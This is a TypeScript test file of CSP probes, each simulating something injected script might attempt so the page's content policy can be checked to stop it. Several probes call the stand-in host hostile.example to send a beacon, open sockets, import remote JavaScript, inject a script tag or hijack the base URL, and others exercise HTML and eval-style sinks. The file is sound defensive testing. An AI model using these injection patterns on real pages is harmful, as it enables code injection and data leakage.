/** What a script would do that got in, and that the content policy has to stop all the same. */
import { type Probe, painted } from './policy-probes.ts';

/** The API of trusted types, as far as the probes use it. */
declare global {
  var trustedTypes: { createPolicy(name: string, rules: object): unknown };
}

/** Each runs in the page, so that it uses nothing from here. */
export const deeds: readonly Probe[] = [
  { by: 'connect-src', name: 'fetch', deed: () => fetch('https://hostile.example/a.json').then(() => true) },
  {
    by: 'connect-src',
    name: 'a request of the old kind',
    deed: () => {
      const call = new XMLHttpRequest();
      call.open('GET', 'https://hostile.example/a.json');
      call.send();
    },
  },
  {
    by: 'connect-src',
    name: 'a beacon',
    deed: () => void navigator.sendBeacon('https://hostile.example/beacon', 'x'),
  },
  {
    by: 'connect-src',
    name: 'a stream of events',
    deed: () => void new EventSource('https://hostile.example/events'),
  },
  { by: 'connect-src', name: 'a socket', deed: () => void new WebSocket('wss://hostile.example/socket') },
  {
    by: 'font-src',
    name: 'a font',
    deed: () => new FontFace('x', 'url(https://hostile.example/a.woff2)').load().then(() => true),
  },
  {
    by: 'img-src',
    name: 'a picture that a script makes',
    deed: () => {
      new Image().src = 'https://hostile.example/a.png';
    },
  },
  {
    by: 'worker-src',
    name: 'a worker of the page’s own making',
    deed: () =>
      new Promise((resolve, reject) => {
        const script = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
        const worker = new Worker(script);
        worker.onmessage = () => resolve(true);
        worker.onerror = reject;
      }),
  },
  {
    by: 'worker-src',
    name: 'a worker of a data: address',
    deed: () =>
      new Promise((resolve, reject) => {
        const worker = new Worker('data:text/javascript,postMessage(1)');
        worker.onmessage = () => resolve(true);
        worker.onerror = reject;
      }),
  },
  {
    by: 'script-src',
    name: 'a text that is run later',
    deed: () => void setTimeout('globalThis.done = 1' as unknown as () => void),
  },
  {
    by: 'script-src',
    name: 'a function of a text',
    // Later, because what the test itself runs may make functions.
    deed: () =>
      new Promise((resolve, reject) => {
        setTimeout(() => {
          try {
            resolve(new Function('return 1')());
          } catch (error) {
            reject(error);
          }
        });
      }),
  },
  {
    by: 'script-src',
    name: 'an import from elsewhere',
    deed: () => import(/* @vite-ignore */ `${'https://hostile.example'}/a.js`).then(() => true),
  },
  {
    by: 'script-src',
    name: 'a script that a script puts in',
    deed: () => {
      const script = document.createElement('script');
      script.src = 'https://hostile.example/a.js';
      document.body.append(script);
    },
  },
  {
    by: 'style-src',
    name: 'a sheet that a script puts in',
    deed: () => {
      const style = document.createElement('style');
      style.textContent = 'body{outline:1px dashed}';
      document.body.append(style);
    },
    sign: painted,
  },
  {
    by: 'base-uri',
    name: 'a base that a script puts in',
    deed: () => {
      const base = document.createElement('base');
      base.href = 'https://hostile.example/';
      document.head.prepend(base);
    },
    sign: () => document.baseURI.includes('hostile'),
  },
  {
    by: 'require-trusted-types-for',
    name: 'innerHTML',
    deed: () => {
      document.body.innerHTML = '<p>x</p>';
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'outerHTML',
    deed: () => {
      (document.body.firstElementChild as Element).outerHTML = '<p>x</p>';
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'insertAdjacentHTML',
    deed: () => {
      document.body.insertAdjacentHTML('beforeend', '<p>x</p>');
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'document.write',
    deed: () => {
      document.write('<p>x</p>');
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'srcdoc',
    deed: () => {
      document.createElement('iframe').srcdoc = '<p>x</p>';
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'a parser',
    deed: () => {
      new DOMParser().parseFromString('<p>x</p>', 'text/html');
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'a fragment',
    deed: () => {
      document.createRange().createContextualFragment('<p>x</p>');
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'setHTMLUnsafe',
    deed: () => {
      document.createElement('p').setHTMLUnsafe('<p>x</p>');
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'the text of a script',
    deed: () => {
      document.createElement('script').text = '1';
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'the address of a script',
    deed: () => {
      document.createElement('script').src = '/x.js';
      return true;
    },
  },
  {
    by: 'require-trusted-types-for',
    name: 'the address of a worker',
    deed: () => {
      new Worker('/x.js');
      return true;
    },
  },
  {
    by: 'trusted-types',
    name: 'a type of another name',
    deed: () => {
      globalThis.trustedTypes.createPolicy('other', {});
      return true;
    },
  },
  {
    by: 'trusted-types',
    name: 'the type that all strings become',
    deed: () => {
      globalThis.trustedTypes.createPolicy('default', {});
      return true;
    },
  },
  {
    by: 'trusted-types',
    name: 'a second type of a known name',
    deed: () => {
      globalThis.trustedTypes.createPolicy('vigie-worker', {});
      globalThis.trustedTypes.createPolicy('vigie-worker', {});
      return true;
    },
  },
];
